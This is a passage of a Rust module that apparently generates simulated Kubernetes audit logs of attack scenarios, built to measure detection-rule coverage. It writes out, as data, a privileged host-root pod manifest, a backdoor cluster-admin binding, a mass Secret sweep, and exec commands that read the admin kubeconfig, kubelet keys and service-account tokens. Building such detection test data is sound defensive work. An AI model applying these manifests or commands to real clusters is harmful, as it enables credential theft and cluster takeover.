//! Injected attack stories. Each [`Scenario`] emits a short, realistic sequence of
//! requests starting at its offset, and documents the USE_CASES.md rows (by number and
//! id) it should trigger, so detection coverage can be measured against it.
//!
//! The stories share a cast, so that several scenarios together read as one intrusion:
//! - the compromised pod service account `payments:<first app workload>` (it was bound
//!   to a ClusterRole that can read every Secret),
//! - the CI deploy bot's token `ci:gitlab-deployer`, stolen from a Secret and used from
//!   an outside address (185.220.101.47),
//! - a backdoor service account `kube-system:node-maintenance` bound to cluster-admin,
//! - a privileged pod `kube-system/node-debugger-7xk2q`.

use std::rc::Rc;

use serde_json::json;

use super::bodies;
use super::cluster::{sa_identity, uuid};
use super::render::Identity;
use super::sim::{forbid, Actor, Req, Sim, MS, SEC};

/// An attack scenario that can be injected into benign traffic.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, clap::ValueEnum)]
pub enum Scenario {
    /// A compromised pod service account lists and reads Secrets across ≥8 namespaces in
    /// a few minutes with curl. Rows 70 SECRET-LIST, 71 SECRET-LIST-ALL, 73
    /// SECRET-SCRIPT-UA, 75 SECRET-NODE-SA, 76 SECRET-BURST, and the sweep correlation
    /// (one identity, ≥5 namespaces in 10 minutes).
    SecretSweep,
    /// With the stolen CI token from an outside IP: a new kube-system service account and
    /// a ClusterRoleBinding of it to cluster-admin. Rows 11 SYSID-PUBLIC-IP, 50
    /// CRB-ADMIN, 51 BINDING-CHG, 52 BIND-SA, 59 SA-RBAC-WRITE, 61 SA-CREATE.
    ClusterAdminBinding,
    /// A privileged pod in kube-system with hostPID, hostNetwork, a hostPath `/` mount
    /// and an alpine image. Rows 32 PRIV-POD, 33 ROOT-PRIVESC, 35 HOSTPATH, 36
    /// HOSTPATH-SENS, 37 HOSTNET, 38 HOSTPID, 40 POD-SYSNS, 42 DEBUG-IMG-NEW, 43
    /// IMG-UNTRUSTED; Sigma privileged-pod, hostPath and pod-in-system-namespace.
    PrivilegedPod,
    /// Exec into the kube-system debugger pod: a shell reading the admin kubeconfig and
    /// the service-account token. Rows 17 EXEC, 18 EXEC-KUBESYS, 22 EXEC-SHELL, 26
    /// EXEC-CREDFILE, 27 EXEC-SATOKEN; Sigma exec-into-container.
    ExecKubeSystem,
    /// A second compromised service account enumerates its rights
    /// (SelfSubjectRulesReview, SelfSubjectAccessReview) and probes many resources,
    /// mostly denied. Rows 5 DENY-ANY, 6 FORBID-CREATE, 7 PERM-PROBE, 9
    /// SA-FORBID-NEW-UA, 15 SELF-REVIEW, 16 MULTI-RES-RECON.
    PermissionProbe,
    /// An admin binds `system:anonymous` in `default`; then an outside scanner makes
    /// anonymous requests (some allowed, many denied, failed token logins) and creates a
    /// pod. Rows 1 ANON-OK, 2 ANON-POD-WRITE, 3 ANON-ENUM, 4 DENY-BURST-IP, 5 DENY-ANY,
    /// 53 BIND-ANON.
    AnonymousAccess,
    /// The stolen CI token mints a token for the Argo CD controller's service account.
    /// Rows 62 TOKENREQUEST, 11 SYSID-PUBLIC-IP.
    TokenRequest,
    /// A user creates a client-certificate CSR for `O=system:masters` and approves it
    /// herself. Rows 63 CSR-CLIENT, 64 CSR-SELF-APPROVE, 65 CSR-PRIV-CN.
    CsrApproval,
    /// The stolen CI token registers a mutating webhook that sends every pod to an
    /// outside URL. Rows 66 ADMISSION-WEBHOOK; Sigma change-admission-controller.
    AdmissionWebhook,
    /// The backdoor account deletes kube-system Events. Rows 84 EVENTS-DEL; Sigma
    /// events-deleted.
    EventsDeletion,
    /// A NodePort Service exposing the debugger pod. Row 79 NODEPORT.
    NodePortService,
    /// A person creates a DaemonSet in kube-system mounting a host path. Rows 44
    /// DAEMONSET, 46 WORKLOAD-NEW-ACTOR, 35 HOSTPATH.
    HumanDaemonSet,
    /// An admin impersonates `system:admin` in `system:masters` to read kube-system
    /// Secrets. Row 13 IMPERSONATE-PRIV.
    Impersonation,
    /// An offensive tool's user agent (trufflehog, rakkess access_matrix) enumerating
    /// Secrets and permissions. Rows 14 TOOL-UA, 70 SECRET-LIST, 73 SECRET-SCRIPT-UA.
    OffensiveTool,
    /// A debug (ephemeral) container added to a running application pod. Row 29
    /// EPHEMERAL.
    EphemeralContainer,
    /// The API server's node proxy used to list pods and run a command through the
    /// kubelet. Rows 30 NODE-PROXY, 31 NODE-PROXY-EXEC.
    NodeProxy,
    /// A wildcard ClusterRole created, then a sidecar patched into a Deployment, by the
    /// same identity within minutes. Rows 56 ROLE-SENS, 47 SIDECAR, 59 SA-RBAC-WRITE, 60
    /// RBAC-THEN-WORKLOAD; Sigma sidecar-injection.
    RbacThenWorkload,
    /// The CoreDNS ConfigMap patched to redirect a name. Row 68 COREDNS-CM.
    CorednsTamper,
    /// A CronJob in kube-system that pipes a download to a shell. Row 45 CRONJOB; Sigma
    /// cronjob-modification.
    CronJobBackdoor,
    /// Exec into an application pod with a reverse shell, a download and a metadata
    /// service query. Rows 17 EXEC, 22 EXEC-SHELL, 23 EXEC-REVSHELL, 24 EXEC-DOWNLOAD,
    /// 25 EXEC-IMDS.
    ExecReverseShell,
    /// `kubectl cp` out of a database pod: an exec of `tar cf -`. Rows 17 EXEC, 28
    /// KUBECTL-CP.
    KubectlCp,
    /// Port-forward to a database pod and an attach, from the outside address. Rows 20
    /// ATTACH, 21 PORTFWD.
    PortForward,
    /// Destruction: a Deployment and its Secrets deleted. Rows 48 DEPLOY-DEL, 72
    /// SECRET-WRITE; Sigma deployment-deleted and secrets-modified-or-deleted.
    DeploymentDeletion,
    /// The EKS `aws-auth` ConfigMap patched to map an outside IAM role to
    /// system:masters. Row 67 AWS-AUTH-CM.
    AwsAuthTamper,
    /// Twenty-five denied Secret reads in one namespace within minutes from a public IP.
    /// Rows 4 DENY-BURST-IP, 5 DENY-ANY, 77 SECRET-DENIED.
    SecretDenialBurst,
    /// `admin` bound to the `default` service account of a namespace. Rows 51
    /// BINDING-CHG, 52 BIND-SA, 54 DEFAULT-SA-ADMIN.
    DefaultSaAdmin,
    /// The Kubernetes dashboard exposed through a LoadBalancer Service. Row 80
    /// EXPOSED-DASH.
    ExposedDashboard,
    /// A ConfigMap created with cloud credentials in its data. Row 78 CM-CREDS.
    ConfigMapCredentials,
    /// A built-in `system:` ClusterRole patched to grant everything. Rows 57
    /// ROLE-WILDCARD-PATCH, 58 SYSROLE-MOD.
    SystemRoleTamper,
    /// A new namespace, and a NetworkPolicy deleted to open traffic. Rows 82 NS-CREATE,
    /// 83 NETPOL-CHG.
    NamespaceAndNetpol,
}

impl Scenario {
    /// Every scenario, in a stable order.
    pub const ALL: &'static [Scenario] = &[
        Scenario::SecretSweep,
        Scenario::ClusterAdminBinding,
        Scenario::PrivilegedPod,
        Scenario::ExecKubeSystem,
        Scenario::PermissionProbe,
        Scenario::AnonymousAccess,
        Scenario::TokenRequest,
        Scenario::CsrApproval,
        Scenario::AdmissionWebhook,
        Scenario::EventsDeletion,
        Scenario::NodePortService,
        Scenario::HumanDaemonSet,
        Scenario::Impersonation,
        Scenario::OffensiveTool,
        Scenario::EphemeralContainer,
        Scenario::NodeProxy,
        Scenario::RbacThenWorkload,
        Scenario::CorednsTamper,
        Scenario::CronJobBackdoor,
        Scenario::ExecReverseShell,
        Scenario::KubectlCp,
        Scenario::PortForward,
        Scenario::DeploymentDeletion,
        Scenario::AwsAuthTamper,
        Scenario::SecretDenialBurst,
        Scenario::DefaultSaAdmin,
        Scenario::ExposedDashboard,
        Scenario::ConfigMapCredentials,
        Scenario::SystemRoleTamper,
        Scenario::NamespaceAndNetpol,
    ];

    /// The kebab-case name used on the command line.
    pub fn name(self) -> &'static str {
        // `NAMES` is in declaration order, like the discriminants.
        NAMES[self as usize]
    }

    /// USE_CASES.md row numbers this scenario should trigger.
    pub fn rows(self) -> &'static [u32] {
        match self {
            Scenario::SecretSweep => &[70, 71, 73, 75, 76],
            Scenario::ClusterAdminBinding => &[11, 50, 51, 52, 59, 61],
            Scenario::PrivilegedPod => &[32, 33, 35, 36, 37, 38, 40, 42, 43],
            Scenario::ExecKubeSystem => &[17, 18, 22, 26, 27],
            Scenario::PermissionProbe => &[5, 6, 7, 9, 15, 16],
            Scenario::AnonymousAccess => &[1, 2, 3, 4, 5, 53],
            Scenario::TokenRequest => &[11, 62],
            Scenario::CsrApproval => &[63, 64, 65],
            Scenario::AdmissionWebhook => &[66],
            Scenario::EventsDeletion => &[84],
            Scenario::NodePortService => &[79],
            Scenario::HumanDaemonSet => &[35, 44, 46],
            Scenario::Impersonation => &[13],
            Scenario::OffensiveTool => &[14, 70, 73],
            Scenario::EphemeralContainer => &[29],
            Scenario::NodeProxy => &[30, 31],
            Scenario::RbacThenWorkload => &[47, 56, 59, 60],
            Scenario::CorednsTamper => &[68],
            Scenario::CronJobBackdoor => &[45],
            Scenario::ExecReverseShell => &[17, 22, 23, 24, 25],
            Scenario::KubectlCp => &[17, 28],
            Scenario::PortForward => &[20, 21],
            Scenario::DeploymentDeletion => &[48, 72],
            Scenario::AwsAuthTamper => &[67],
            Scenario::SecretDenialBurst => &[4, 5, 77],
            Scenario::DefaultSaAdmin => &[51, 52, 54],
            Scenario::ExposedDashboard => &[80],
            Scenario::ConfigMapCredentials => &[78],
            Scenario::SystemRoleTamper => &[57, 58],
            Scenario::NamespaceAndNetpol => &[82, 83],
        }
    }
}

const NAMES: &[&str] = &[
    "secret-sweep",
    "cluster-admin-binding",
    "privileged-pod",
    "exec-kube-system",
    "permission-probe",
    "anonymous-access",
    "token-request",
    "csr-approval",
    "admission-webhook",
    "events-deletion",
    "node-port-service",
    "human-daemon-set",
    "impersonation",
    "offensive-tool",
    "ephemeral-container",
    "node-proxy",
    "rbac-then-workload",
    "coredns-tamper",
    "cron-job-backdoor",
    "exec-reverse-shell",
    "kubectl-cp",
    "port-forward",
    "deployment-deletion",
    "aws-auth-tamper",
    "secret-denial-burst",
    "default-sa-admin",
    "exposed-dashboard",
    "config-map-credentials",
    "system-role-tamper",
    "namespace-and-netpol",
];

/// The attacker's outside address (a Tor exit range) and tooling.
const ATTACKER_IP: &str = "185.220.101.47";
const ATTACKER_KUBECTL: &str = "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819";
/// Name of the privileged pod shared by several scenarios.
pub(crate) const DEBUGGER_POD: &str = "node-debugger-7xk2q";

/// The cast of the stories.
pub(crate) struct Cast {
    /// The compromised pod service account (curl from inside its pod).
    sweeper: Actor,
    sweeper_ns: String,
    /// The stolen CI token used from outside.
    ci: Actor,
    /// The backdoor cluster-admin service account used from outside.
    backdoor: Actor,
    /// A second compromised pod service account (permission probing).
    prober: Actor,
    /// A platform admin (alice) and an application developer (dave).
    admin: Actor,
    dev: Actor,
}

pub(crate) fn cast(sim: &mut Sim) -> Cast {
    let c = &sim.cluster;
    let first = c.first_app;
    let second = (first + 1).min(c.workloads.len() - 1);
    let w = &c.workloads[first];
    let p = &w.pods[0];
    let sweeper_id = sa_identity(
        &mut sim.rng,
        &w.ns,
        &w.sa,
        &w.sa_uid,
        Some((p, &c.nodes[p.node])),
    );
    let sweeper = Actor {
        id: Rc::new(sweeper_id),
        ip: p.ip.clone(),
        ua: Rc::from("curl/8.5.0"),
        reason: Rc::from(format!(
            "RBAC: allowed by ClusterRoleBinding \"{sa}-secrets\" of ClusterRole \"secret-reader\" to ServiceAccount \"{sa}/{ns}\"",
            sa = w.sa,
            ns = w.ns
        )),
    };
    let sweeper_ns = w.ns.clone();
    let w2 = &c.workloads[second];
    let p2 = &w2.pods[0];
    let prober_id = sa_identity(
        &mut sim.rng,
        &w2.ns,
        &w2.sa,
        &w2.sa_uid,
        Some((p2, &c.nodes[p2.node])),
    );
    let prober = Actor {
        id: Rc::new(prober_id),
        ip: p2.ip.clone(),
        ua: Rc::from("kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc"),
        reason: Rc::from(format!(
            "RBAC: allowed by RoleBinding \"{sa}/{ns}\" of Role \"{sa}\" to ServiceAccount \"{sa}/{ns}\"",
            sa = w2.sa,
            ns = w2.ns
        )),
    };
    let ci_uid = c
        .workloads
        .iter()
        .find(|w| w.sa == "gitlab-deployer")
        .map(|w| w.sa_uid.clone())
        .unwrap_or_default();
    let ci = Actor {
        id: Rc::new(sa_identity(&mut sim.rng, "ci", "gitlab-deployer", &ci_uid, None)),
        ip: ATTACKER_IP.into(),
        ua: Rc::from(ATTACKER_KUBECTL),
        reason: Rc::from("RBAC: allowed by ClusterRoleBinding \"gitlab-deployer\" of ClusterRole \"gitlab-deployer\" to ServiceAccount \"gitlab-deployer/ci\""),
    };
    let backdoor_uid = "3c1f7a52-6e0d-4b8a-9f21-7d4e5c6b8a90";
    let backdoor = Actor {
        id: Rc::new(sa_identity(&mut sim.rng, "kube-system", "node-maintenance", backdoor_uid, None)),
        ip: ATTACKER_IP.into(),
        ua: Rc::from(ATTACKER_KUBECTL),
        reason: Rc::from("RBAC: allowed by ClusterRoleBinding \"system:node-maintenance\" of ClusterRole \"cluster-admin\" to ServiceAccount \"node-maintenance/kube-system\""),
    };
    let h = &c.humans;
    let admin = Actor {
        id: h[0].id.clone(),
        ip: h[0].ip.clone(),
        ua: h[0].ua.clone(),
        reason: Rc::from("RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group \"platform-admins\""),
    };
    let dev = Actor {
        id: h[3].id.clone(),
        ip: h[3].ip.clone(),
        ua: h[3].ua.clone(),
        reason: Rc::from("RBAC: allowed by ClusterRoleBinding \"platform-admins\" of ClusterRole \"cluster-admin\" to Group \"platform-admins\""),
    };
    Cast {
        sweeper,
        sweeper_ns,
        ci,
        backdoor,
        prober,
        admin,
        dev,
    }
}

/// Emits `s` starting at `t0` (all of its requests are scheduled at once; the heap puts
/// them in time order among the benign traffic).
pub(crate) fn emit(sim: &mut Sim, cast: &Cast, s: Scenario, t0: i64) {
    sim.in_scenario = true;
    match s {
        Scenario::SecretSweep => secret_sweep(sim, cast, t0),
        Scenario::ClusterAdminBinding => cluster_admin_binding(sim, cast, t0),
        Scenario::PrivilegedPod => privileged_pod(sim, cast, t0),
        Scenario::ExecKubeSystem => exec_kube_system(sim, cast, t0),
        Scenario::PermissionProbe => permission_probe(sim, cast, t0),
        Scenario::AnonymousAccess => anonymous_access(sim, cast, t0),
        Scenario::TokenRequest => token_request(sim, cast, t0),
        Scenario::CsrApproval => csr_approval(sim, cast, t0),
        Scenario::AdmissionWebhook => admission_webhook(sim, cast, t0),
        Scenario::EventsDeletion => events_deletion(sim, cast, t0),
        Scenario::NodePortService => nodeport(sim, cast, t0),
        Scenario::HumanDaemonSet => human_daemonset(sim, cast, t0),
        Scenario::Impersonation => impersonation(sim, cast, t0),
        Scenario::OffensiveTool => offensive_tool(sim, cast, t0),
        Scenario::EphemeralContainer => ephemeral(sim, cast, t0),
        Scenario::NodeProxy => node_proxy(sim, cast, t0),
        Scenario::RbacThenWorkload => rbac_then_workload(sim, cast, t0),
        Scenario::CorednsTamper => coredns(sim, cast, t0),
        Scenario::CronJobBackdoor => cronjob(sim, cast, t0),
        Scenario::ExecReverseShell => exec_revshell(sim, cast, t0),
        Scenario::KubectlCp => kubectl_cp(sim, cast, t0),
        Scenario::PortForward => port_forward(sim, cast, t0),
        Scenario::DeploymentDeletion => deployment_deletion(sim, cast, t0),
        Scenario::AwsAuthTamper => aws_auth(sim, cast, t0),
        Scenario::SecretDenialBurst => secret_denials(sim, cast, t0),
        Scenario::DefaultSaAdmin => default_sa_admin(sim, cast, t0),
        Scenario::ExposedDashboard => exposed_dashboard(sim, cast, t0),
        Scenario::ConfigMapCredentials => cm_credentials(sim, cast, t0),
        Scenario::SystemRoleTamper => system_role(sim, cast, t0),
        Scenario::NamespaceAndNetpol => namespace_netpol(sim, cast, t0),
    }
    sim.in_scenario = false;
}

/// A step `dt` after the previous one, with a little human jitter.
fn step(sim: &mut Sim, t: &mut i64, dt: i64) -> i64 {
    *t += dt + sim.rng.i64(0..dt.max(2) / 2);
    *t
}

fn secret_sweep(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = &c.sweeper;
    // Own namespace first, then everything else, then a cluster-wide list.
    let mut order: Vec<String> = vec![c.sweeper_ns.clone()];
    for ns in [
        "kube-system",
        "default",
        "ci",
        "argocd",
        "monitoring",
        "cert-manager",
        "ingress-nginx",
    ] {
        order.push(ns.to_string());
    }
    for ns in sim.cluster.app_namespaces.iter().skip(1).take(3) {
        order.push(ns.clone());
    }
    for ns in &order {
        let tt = step(sim, &mut t, 9 * SEC);
        let r = sim.req(tt, a, "list", "secrets", ns, "", "", "");
        sim.submit(r);
    }
    let tt = step(sim, &mut t, 12 * SEC);
    let r = sim.req(tt, a, "list", "secrets", "", "", "", "?limit=500");
    sim.submit(r);
    // Then the interesting ones, by name.
    let wanted = [
        ("ci", "gitlab-deployer-token"),
        ("ci", "registry-credentials"),
        ("argocd", "argocd-secret"),
        ("cert-manager", "letsencrypt-prod-account-key"),
        ("monitoring", "prometheus-k8s-tls-assets"),
        ("kube-system", "aws-load-balancer-webhook-tls"),
    ];
    for (ns, name) in wanted {
        let tt = step(sim, &mut t, 4 * SEC);
        let r = sim.req(tt, a, "get", "secrets", ns, name, "", "");
        sim.submit(r);
    }
    // A probe outside its grant.
    let tt = step(sim, &mut t, 5 * SEC);
    let mut r = sim.req(tt, a, "list", "nodes", "", "", "", "");
    forbid(&mut r);
    sim.submit(r);
}

fn cluster_admin_binding(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = &c.ci;
    let g = sim.req(t, a, "get", "", "", "/api", "", "?timeout=32s");
    sim.submit(g);
    let tt = step(sim, &mut t, 3 * SEC);
    let sa_uid = "3c1f7a52-6e0d-4b8a-9f21-7d4e5c6b8a90";
    let body = json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "node-maintenance", "namespace": "kube-system"}});
    let rv = sim.next_rv();
    let mut r = sim.req(
        tt,
        a,
        "create",
        "serviceaccounts",
        "kube-system",
        "node-maintenance",
        "",
        "?fieldManager=kubectl-create&fieldValidation=Strict",
    );
    r.request_object = Some(body);
    r.response_object = Some(
        json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": "node-maintenance", "namespace": "kube-system", "uid": sa_uid, "resourceVersion": rv, "creationTimestamp": bodies::ts(tt)}}),
    );
    sim.submit(r);
    let tt = step(sim, &mut t, 8 * SEC);
    let crb = json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "system:node-maintenance"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "node-maintenance", "namespace": "kube-system"}]});
    let mut resp = crb.clone();
    resp["metadata"]["uid"] = json!(uuid(&mut sim.rng));
    resp["metadata"]["resourceVersion"] = json!(sim.next_rv());
    resp["metadata"]["creationTimestamp"] = json!(bodies::ts(tt));
    let mut r = sim.req(
        tt,
        a,
        "create",
        "clusterrolebindings",
        "",
        "system:node-maintenance",
        "",
        "?fieldManager=kubectl-create&fieldValidation=Strict",
    );
    r.request_object = Some(crb);
    r.response_object = Some(resp);
    sim.submit(r);
    // The attacker mints a token for the new account.
    let tt = step(sim, &mut t, 5 * SEC);
    let mut r = sim.req(
        tt,
        a,
        "create",
        "serviceaccounts",
        "kube-system",
        "node-maintenance",
        "token",
        "",
    );
    r.request_object = Some(
        json!({"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "spec": {"audiences": null, "expirationSeconds": 31536000, "boundObjectRef": null}}),
    );
    sim.submit(r);
}

fn privileged_pod_body(ts: &str) -> serde_json::Value {
    json!({"kind": "Pod", "apiVersion": "v1",
        "metadata": {"name": DEBUGGER_POD, "namespace": "kube-system", "creationTimestamp": null, "labels": {"app": "node-debugger"}},
        "spec": {
            "containers": [{"name": "debugger", "image": "alpine:3.20", "command": ["sleep", "infinity"], "stdin": true, "tty": true,
                "securityContext": {"privileged": true, "allowPrivilegeEscalation": true, "runAsUser": 0, "capabilities": {"add": ["SYS_ADMIN"]}},
                "volumeMounts": [{"mountPath": "/host", "name": "host-root"}]}],
            "hostNetwork": true, "hostPID": true, "hostIPC": true,
            "nodeSelector": {"kubernetes.io/os": "linux"},
            "tolerations": [{"operator": "Exists"}],
            "volumes": [{"name": "host-root", "hostPath": {"path": "/", "type": "Directory"}}],
            "restartPolicy": "Never"
        },
        "status": {"phase": if ts.is_empty() { "" } else { "Pending" }}})
}

fn privileged_pod(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = &c.backdoor;
    let n = 0;
    let node = sim.cluster.nodes[n].name.clone();
    let body = privileged_pod_body("");
    let mut resp = privileged_pod_body(&bodies::ts(t0));
    resp["metadata"]["uid"] = json!(uuid(&mut sim.rng));
    resp["metadata"]["resourceVersion"] = json!(sim.next_rv());
    resp["metadata"]["creationTimestamp"] = json!(bodies::ts(t0));
    let mut r = sim.req(
        t,
        a,
        "create",
        "pods",
        "kube-system",
        DEBUGGER_POD,
        "",
        "?fieldManager=kubectl-run",
    );
    r.request_object = Some(body);
    r.response_object = Some(resp);
    r.annotations.insert(
        "pod-security.kubernetes.io/enforce-policy",
        "privileged:latest".into(),
    );
    sim.submit(r);
    // The scheduler places it (system traffic that follows any pod creation).
    let tt = step(sim, &mut t, 60 * MS);
    let sched = scheduler_actor(sim);
    let mut b = sim.req(
        tt,
        &sched,
        "create",
        "pods",
        "kube-system",
        DEBUGGER_POD,
        "binding",
        "",
    );
    b.request_object = Some(
        json!({"kind": "Binding", "apiVersion": "v1", "metadata": {"name": DEBUGGER_POD, "namespace": "kube-system", "creationTimestamp": null}, "target": {"kind": "Node", "name": node}}),
    );
    b.status.code = 201;
    sim.submit(b);
    let tt = step(sim, &mut t, 2 * SEC);
    let g = sim.req(tt, a, "get", "pods", "kube-system", DEBUGGER_POD, "", "");
    sim.submit(g);
}

fn scheduler_actor(sim: &Sim) -> Actor {
    Actor {
        id: sim.cluster.scheduler.clone(),
        ip: sim.cluster.cp_ip.clone(),
        ua: Rc::from(format!("kube-scheduler/{} (linux/amd64) kubernetes/{}/scheduler", super::cluster::KVER, super::cluster::KGIT)),
        reason: Rc::from("RBAC: allowed by ClusterRoleBinding \"system:kube-scheduler\" of ClusterRole \"system:kube-scheduler\" to User \"system:kube-scheduler\""),
    }
}

/// Go's `url.QueryEscape`, as kubectl encodes exec commands: unreserved characters
/// stay, a space becomes `+`, everything else is percent-encoded.
fn query_escape(s: &str) -> String {
    const GO_QUERY: &percent_encoding::AsciiSet = &percent_encoding::NON_ALPHANUMERIC
        .remove(b'-')
        .remove(b'_')
        .remove(b'.')
        .remove(b'~');
    percent_encoding::utf8_percent_encode(s, GO_QUERY)
        .to_string()
        .replace("%20", "+")
}

#[allow(clippy::too_many_arguments)]
fn exec(
    sim: &mut Sim,
    a: &Actor,
    t: i64,
    verb: &'static str,
    ns: &str,
    pod: &str,
    container: &str,
    cmd: &[&str],
    secs: i64,
) {
    let mut q = String::from("?");
    for part in cmd {
        q.push_str("command=");
        q.push_str(&query_escape(part));
        q.push('&');
    }
    q.push_str(&format!(
        "container={container}&stderr=true&stdin=true&stdout=true&tty=true"
    ));
    let mut r = sim.req(t, a, verb, "pods", ns, pod, "exec", &q);
    r.status.code = 101;
    r.long_running = true;
    r.latency = secs * SEC + sim.rng.i64(0..SEC);
    sim.submit(r);
}

fn exec_kube_system(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = &c.backdoor;
    exec(
        sim,
        a,
        t,
        "create",
        "kube-system",
        DEBUGGER_POD,
        "debugger",
        &[
            "chroot",
            "/host",
            "sh",
            "-c",
            "cat /etc/kubernetes/admin.conf /var/lib/kubelet/pki/kubelet-client-current.pem",
        ],
        4,
    );
    let tt = step(sim, &mut t, 20 * SEC);
    exec(
        sim,
        a,
        tt,
        "create",
        "kube-system",
        DEBUGGER_POD,
        "debugger",
        &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
        1,
    );
    let tt = step(sim, &mut t, 30 * SEC);
    exec(
        sim,
        a,
        tt,
        "create",
        "kube-system",
        DEBUGGER_POD,
        "debugger",
        &["/bin/sh"],
        240,
    );
}

fn permission_probe(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    let a = &c.prober;
    let ns =
        a.id.username
            .split(':')
            .nth(2)
            .unwrap_or("default")
            .to_string();
    let mut r = sim.req(t, a, "create", "selfsubjectrulesreviews", "", "", "", "");
    r.request_object = Some(
        json!({"kind": "SelfSubjectRulesReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": null}, "spec": {"namespace": ns}, "status": {"resourceRules": null, "nonResourceRules": null, "incomplete": false}}),
    );
    r.annotations.insert("authorization.k8s.io/reason", "RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"".into());
    sim.submit(r);
    for (verb, res) in [
        ("list", "secrets"),
        ("create", "pods"),
        ("create", "clusterrolebindings"),
    ] {
        let tt = step(sim, &mut t, 2 * SEC);
        let mut r = sim.req(tt, a, "create", "selfsubjectaccessreviews", "", "", "", "");
        r.request_object = Some(
            json!({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "metadata": {"creationTimestamp": null}, "spec": {"resourceAttributes": {"namespace": ns, "verb": verb, "resource": res}}, "status": {"allowed": false}}),
        );
        r.annotations.insert("authorization.k8s.io/reason", "RBAC: allowed by ClusterRoleBinding \"system:basic-user\" of ClusterRole \"system:basic-user\" to Group \"system:authenticated\"".into());
        sim.submit(r);
    }
    let probes: &[(&'static str, &str, &str, &'static str, bool)] = &[
        ("list", "pods", "ns", "", true),
        ("list", "secrets", "ns", "", false),
        ("list", "secrets", "kube-system", "", false),
        ("list", "nodes", "", "", false),
        ("list", "namespaces", "", "", false),
        ("list", "clusterroles", "", "", false),
        ("list", "clusterrolebindings", "", "", false),
        ("list", "serviceaccounts", "ns", "", false),
        ("list", "configmaps", "ns", "", true),
        ("list", "deployments", "ns", "", true),
        ("create", "deployments", "ns", "", false),
        ("create", "pods", "ns", "exec", false),
        ("list", "daemonsets", "kube-system", "", false),
        ("list", "roles", "ns", "", false),
        ("get", "secrets", "kube-system", "", false),
    ];
    for (verb, res, pns, sub, allowed) in probes {
        let tt = step(sim, &mut t, 3 * SEC);
        let pns = if *pns == "ns" { ns.as_str() } else { pns };
        let name = match (*res, *sub) {
            ("pods", "exec") => sim.cluster.workloads
                [(sim.cluster.first_app + 1).min(sim.cluster.workloads.len() - 1)]
            .pods[0]
                .name
                .clone(),
            ("secrets", "") if *verb == "get" => "aws-load-balancer-webhook-tls".to_string(),
            _ => String::new(),
        };
        let mut r = sim.req(
            tt,
            a,
            verb,
            res,
            pns,
            &name,
            sub,
            if *verb == "list" { "?limit=500" } else { "" },
        );
        if *verb == "create" && sub.is_empty() {
            r.request_object = Some(
                json!({"kind": "Deployment", "apiVersion": "apps/v1", "metadata": {"name": "probe"}}),
            );
        }
        if !allowed {
            forbid(&mut r);
        }
        sim.submit(r);
    }
}

fn anonymous_access(sim: &mut Sim, c: &Cast, t0: i64) {
    let mut t = t0;
    // The misconfiguration, by an admin.
    let rb = json!({"kind": "RoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
        "metadata": {"name": "anonymous-debug", "namespace": "default"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"}]});
    let mut r = sim.req(
        t,
        &c.admin,
        "create",
        "rolebindings",
        "default",
        "anonymous-debug",
        "",
        "?fieldManager=kubectl-create&fieldValidation=Strict",
    );
    r.request_object = Some(rb.clone());
    r.response_object = Some(rb);
    sim.submit(r);
    let anon = Actor {
        id: sim.cluster.anonymous.clone(),
        ip: "45.155.205.233".into(),
        ua: Rc::from("python-requests/2.31.0"),
        reason: Rc::from("RBAC: allowed by RoleBinding \"anonymous-debug/default\" of ClusterRole \"edit\" to User \"system:anonymous\""),
    };
    step(sim, &mut t, 600 * SEC);
    // Failed logins with a guessed token: only ResponseStarted with 401.
    for _ in 0..3 {
        let tt = step(sim, &mut t, 2 * SEC);
        let mut r = sim.req(tt, &anon, "list", "pods", "", "", "", "");
        r.user = Rc::new(Identity::default());
        r.status = super::render::Status {
            status: "Failure",
            message: "Authentication failed, attempted: bearer".into(),
            reason: "Unauthorized",
            code: 401,
            ..Default::default()
        };
        r.annotations.clear();
        r.latency = 200;
        sim.submit_auth_failure(r);
    }
    let probes: &[(&'static str, &str, &str, bool)] = &[
        ("get", "", "/version", true),
        ("get", "", "/apis", true),
        ("list", "pods", "default", true),
        ("list", "secrets", "default", true),
        ("list", "secrets", "", false),
        ("list", "nodes", "", false),
        ("list", "pods", "kube-system", false),
        ("list", "namespaces", "", false),
        ("list", "configmaps", "kube-system", false),
        ("list", "deployments", "kube-system", false),
        ("list", "serviceaccounts", "kube-system", false),
        ("list", "clusterroles", "", false),
        ("list", "clusterrolebindings", "", false),
        ("get", "", "/api/v1/namespaces/kube-system/secrets", false),
        ("list", "daemonsets", "kube-system", false),
        ("list", "services", "default", true),
    ];
    for (verb, res, arg, allowed) in probes {
        let tt = step(sim, &mut t, 3 * SEC);
        let mut r = if res.is_empty() {
            let mut r = sim.req(tt, &anon, verb, "", "", arg, "", "");
            r.annotations.insert("authorization.k8s.io/reason", "RBAC: allowed by ClusterRoleBinding \"system:public-info-viewer\" of ClusterRole \"system:public-info-viewer\" to Group \"system:unauthenticated\"".into());
            r
        } else {
            sim.req(tt, &anon, verb, res, arg, "", "", "")
        };
        if !allowed {
